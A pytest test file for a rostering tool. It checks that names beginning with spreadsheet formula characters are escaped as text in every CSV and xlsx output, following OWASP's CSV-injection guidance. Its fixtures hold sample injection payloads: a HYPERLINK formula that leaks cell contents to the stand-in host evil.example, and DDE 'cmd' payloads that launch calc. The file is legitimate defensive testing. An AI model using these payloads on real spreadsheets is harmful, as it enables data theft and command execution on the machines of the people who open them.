"""Names that a spreadsheet would run as formulas stay text in every workbook and CSV the product
writes (OWASP's CSV injection guidance), and read back unchanged.

The tiny team's people are renamed as an attacker would name themselves (``=HYPERLINK(...)`` to
leak the sheet, ``@SUM``, ``+``, ``-``) and one id starts with ``-``; the team is solved, accepted,
published and carried to its next period on the command line, and every .xlsx and .csv written on
the way is opened as a spreadsheet program would open it. (A scenario's cells are trimmed, so a
leading tab or carriage return is tried on the writers alone.)"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from roster.cli import main
from roster.io import load_scenario, read_roster_csv, year_workbook_bytes
from roster.io.cells import FORMULA_START, from_csv, is_risky, protect_workbook, to_csv
from roster.io.outputs import csv_table as _csv_table
from year_helpers import year_periods

ROOT = Path(__file__).resolve().parents[1]
TINY = ROOT / "scenarios" / "tiny"
LEAK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
NAMES = {
    "Asha Patel": LEAK,
    "Ben Carter": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Chloe Evans": "+44 7700 900123",
    "Dan Hughes": "-2+3+cmd|' /C calc'!A0",
    "Ewa Nowak": "=cmd|' /C calc'!A0",
}
"""The tiny team's names and what each person is called here."""


def _risky_cells_of_workbook(path: Path) -> tuple[int, list[str]]:
    """(text cells that start like a formula, those of them a spreadsheet would run)."""
    book = load_workbook(path)
    seen, live = 0, []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    live.append(f"{path.name}:{ws.title}!{cell.coordinate} {cell.value!r} (a formula)")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    seen += 1
                    if not cell.quotePrefix:
                        live.append(f"{path.name}:{ws.title}!{cell.coordinate} {cell.value!r} (not text)")
    return seen, live


def _risky_cells_of_csv(path: Path) -> tuple[int, list[str]]:
    """(cells written as text with a leading quote, cells a spreadsheet would run as formulas)."""
    seen, live = 0, []
    for r, row in enumerate(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))), start=1):
        for c, cell in enumerate(row, start=1):
            if is_risky(cell):
                live.append(f"{path.name} row {r} column {c}: {cell!r}")
            elif cell.startswith("'") and is_risky(cell[1:]):
                seen += 1
    return seen, live


def _check_folder(folder: Path) -> int:
    """Every workbook and CSV under ``folder`` holds no live formula; how many cells were made safe."""
    safe = 0
    files = sorted(folder.rglob("*.xlsx")) + sorted(folder.rglob("*.csv"))
    assert files, folder
    for path in files:
        seen, live = (_risky_cells_of_workbook if path.suffix == ".xlsx" else _risky_cells_of_csv)(path)
        assert live == [], live
        safe += seen
    return safe


@pytest.fixture
def evil_team(tmp_path: Path) -> Path:
    folder = tmp_path / "evil"
    shutil.copytree(TINY, folder)
    for file in folder.glob("*.csv"):
        text = file.read_text(encoding="utf-8")
        with io.StringIO(newline="") as out:
            rows = list(csv.reader(io.StringIO(text)))
            for row in rows:
                for i, cell in enumerate(row):
                    row[i] = NAMES.get(cell, "-T5" if cell == "T5" else cell)
            csv.writer(out, lineterminator="\n").writerows(rows)
            file.write_text(out.getvalue(), encoding="utf-8")
    return folder


@pytest.mark.slow
def test_a_solved_accepted_published_and_carried_roster_has_no_live_formula(
    evil_team: Path, tmp_path: Path
) -> None:
    scenario = load_scenario(evil_team)
    assert sorted(e.name for e in scenario.employees) == sorted(NAMES.values())
    db = str(tmp_path / "roster.db")
    out, published, nxt = tmp_path / "out", tmp_path / "published", tmp_path / "next"
    run = CliRunner().invoke(
        main, ["solve", str(evil_team), "--out", str(out), "--time-limit", "5", "--workers", "2", "--db", db]
    )
    assert run.exit_code == 0, run.output
    assert (
        CliRunner()
        .invoke(main, ["accept", "v1", "--by", "Chris", "--publish", str(published), "--db", db])
        .exit_code
        == 0
    )
    carried = CliRunner().invoke(main, ["next", "v1", "--out", str(nxt), "--db", db])
    assert carried.exit_code == 0, carried.output
    # the roster workbook (each week's sheet lists the names) and the reports name everyone
    assert _check_folder(out) >= len(NAMES) * 3
    assert _check_folder(published) >= len(NAMES) * 3
    # the exchange file's id -T5 is written as text, and reads back as -T5
    assert "'-T5," in (out / "roster.csv").read_text()
    assert "-T5" in {s.employee_id for s in read_roster_csv(out / "roster.csv").shifts}
    book = load_workbook(out / "roster.xlsx")
    first = book.worksheets[0]
    assert first["B2"].value == LEAK and first["B2"].data_type == "s"  # shown as the text it is
    # the next period's scenario files hold the names as text, and read back exactly
    _check_folder(nxt)
    assert sorted(e.name for e in load_scenario(nxt).employees) == sorted(NAMES.values())


def test_the_yearly_calendars_workbook_has_no_live_formula(tmp_path: Path) -> None:
    path = tmp_path / "calendars.xlsx"
    path.write_bytes(year_workbook_bytes(year_periods(), [("E1", LEAK), ("E2", "@cmd")], title="=1+1"))
    seen, live = _risky_cells_of_workbook(path)
    assert live == [] and seen >= 2


def test_the_sweep_and_year_tables_write_names_as_text() -> None:
    # _csv_table writes the sweep's results, months and balances and the year plan's tables
    text = _csv_table(
        [
            {"variant": LEAK, "short_hours": -1.5, "note": "-"},
            {"variant": "a", "short_hours": 2, "note": None},
        ]
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + LEAK, "-1.5", "'-"]  # a negative number stays a number
    assert from_csv(rows[1][0]) == LEAK


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),  # each first character of OWASP's list
        ("+A1", "'+A1"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),  # a plain number is no formula
        ("+44", "+44"),
        ("1e-3", "1e-3"),
        ("Asha", "Asha"),
        ("a=b", "a=b"),  # only the first character counts
        ("", ""),
    ],
)
def test_a_text_cell_is_written_as_text_and_read_back(value: str, written: str) -> None:
    assert to_csv(value) == written
    assert from_csv(written) == value
    assert to_csv(-2) == -2 and to_csv(None) is None  # numbers and empties are left alone


def test_a_workbook_cell_starting_like_a_formula_is_text_whatever_follows() -> None:
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.append([LEAK, "+1", "-x", "@x", "\t=1", "ok", -3, 4.5])
    assert ws["A1"].data_type == "f"  # openpyxl alone makes it a formula
    assert protect_workbook(book) == 5
    assert [c.data_type for c in ws[1]] == ["s"] * 6 + ["n", "n"]
    assert [bool(c.quotePrefix) for c in ws[1]] == [True] * 5 + [False] * 3
